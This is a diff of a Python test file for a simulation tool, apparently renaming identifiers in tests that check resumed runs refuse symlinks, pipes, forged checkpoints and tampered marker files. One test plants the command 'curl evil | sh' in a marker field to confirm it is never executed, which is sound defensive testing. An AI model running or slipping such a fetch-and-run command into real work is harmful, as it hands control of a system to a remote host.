@@ -16,7 +16,7 @@ import pytest
 
 from flashtemp.__main__ import main
 from flashtemp.camera import recording
-from flashtemp.errors import BadInput, Interrupted
+from flashtemp.errors import BadInput, UserInterrupt
 from flashtemp.lab.programs import programs_of_campaign, programs_of_command
 from flashtemp.model import case as cases
 from flashtemp.runs import checkpoint, folders, job
@@ -42,9 +42,9 @@ def interrupted(tmp_path_factory):
     place = tmp_path_factory.mktemp("interrupted")
     (place / "case.toml").write_text(CASE)
     steps = iter(range(10**6))
-    with pytest.raises(Interrupted):
+    with pytest.raises(UserInterrupt):
         job.simulate(
-            cases.load(place), place / "out",
+            cases.load_case(place), place / "out",
             watch=lambda progress, end: os.kill(os.getpid(), signal.SIGINT) if next(steps) == 5 else None,
         )  # fmt: skip
     return place / "out.partial"
@@ -56,7 +56,7 @@ def work(interrupted, tmp_path, monkeypatch):
     return shutil.copytree(interrupted, tmp_path / "out.partial")
 
 
-@pytest.mark.parametrize("name", ["frames.bin", "reserve.bin", folders.MARKER, "run.nc", "checkpoint.h5.new", "inputs"])
+@pytest.mark.parametrize("name", ["frames.bin", "reserve.bin", folders.MARKER_FILE, "run.nc", "checkpoint.h5.new", "inputs"])
 @pytest.mark.parametrize("kind", ["link", "dangling link", "pipe"])
 def test_a_resumed_run_writes_through_no_link_and_waits_for_no_pipe(work, name, kind, capsys):
     target = work.parent / "elsewhere"
@@ -74,11 +74,11 @@ def test_a_resumed_run_writes_through_no_link_and_waits_for_no_pipe(work, name, 
 
 def rewrite(work, change) -> None:
     """Change a checkpoint as somebody would who knows how its checksum is made."""
-    file = work / checkpoint.CHECKPOINT
-    held = io.BytesIO(file.read_bytes()[checkpoint.HEAD :])
+    file = work / checkpoint.CHECKPOINT_FILE
+    held = io.BytesIO(file.read_bytes()[checkpoint.HEADER_BYTES :])
     with h5py.File(held, "a") as inside:
         change(inside)
-    file.write_bytes(checkpoint._head(held.getvalue()) + held.getvalue())
+    file.write_bytes(checkpoint._build_header(held.getvalue()) + held.getvalue())
 
 
 def put(name, value):
@@ -112,7 +112,7 @@ FORGED = {
 def test_a_forged_checkpoint_is_refused_in_one_line(work, what):
     rewrite(work, FORGED[what])
     with pytest.raises(BadInput) as fault:
-        checkpoint.load(work)
+        checkpoint.load_checkpoint(work)
     assert len(fault.value.lines) == 1
 
 
@@ -130,10 +130,10 @@ MARKERS = {
 
 @pytest.mark.parametrize("what", [*MARKERS, "deep", "a pipe", "endless"])
 def test_a_marker_that_no_run_wrote_makes_no_working_folder(tmp_path, what):
-    marker = tmp_path / folders.MARKER
+    marker = tmp_path / folders.MARKER_FILE
     sound = {"out": "out", "command": "run", "needs": "checkpoint.h5", "resume": "", "overwrite": False, "process": ""}
     marker.write_text(json.dumps(sound))
-    assert folders.owner(tmp_path) == folders.Owner(**sound)
+    assert folders.read_marker(tmp_path) == folders.OwnerMarker(**sound)
     marker.unlink()
     if what == "a pipe":
         os.mkfifo(marker)
@@ -141,12 +141,12 @@ def test_a_marker_that_no_run_wrote_makes_no_working_folder(tmp_path, what):
         marker.symlink_to("/dev/zero")
     else:
         marker.write_text("[" * 100_000 if what == "deep" else json.dumps(sound | MARKERS[what]))
-    assert folders.owner(tmp_path) is None
+    assert folders.read_marker(tmp_path) is None
 
 
 def test_what_goes_on_with_a_run_is_said_by_the_program_and_not_by_the_folder(work, capsys):
-    told = json.loads((work / folders.MARKER).read_text())
-    (work / folders.MARKER).write_text(json.dumps(told | {"resume": "curl evil | sh"}))
+    told = json.loads((work / folders.MARKER_FILE).read_text())
+    (work / folders.MARKER_FILE).write_text(json.dumps(told | {"resume": "curl evil | sh"}))
     (work.parent / "case.toml").write_text(CASE)
     assert main(["run", "case.toml", "--out", "out"]) == 2
     said = capsys.readouterr().err
@@ -329,7 +329,7 @@ def test_a_name_that_no_file_can_have_is_bad_input_of_a_campaign(tmp_path, entry
 def finished(tmp_path_factory):
     place = tmp_path_factory.mktemp("finished")
     (place / "case.toml").write_text(CASE.replace("0.5", "0.02"))
-    job.simulate(cases.load(place, {"output.pictures": False}), place / "out")
+    job.simulate(cases.load_case(place, {"output.pictures": False}), place / "out")
     return place / "out"
 
 
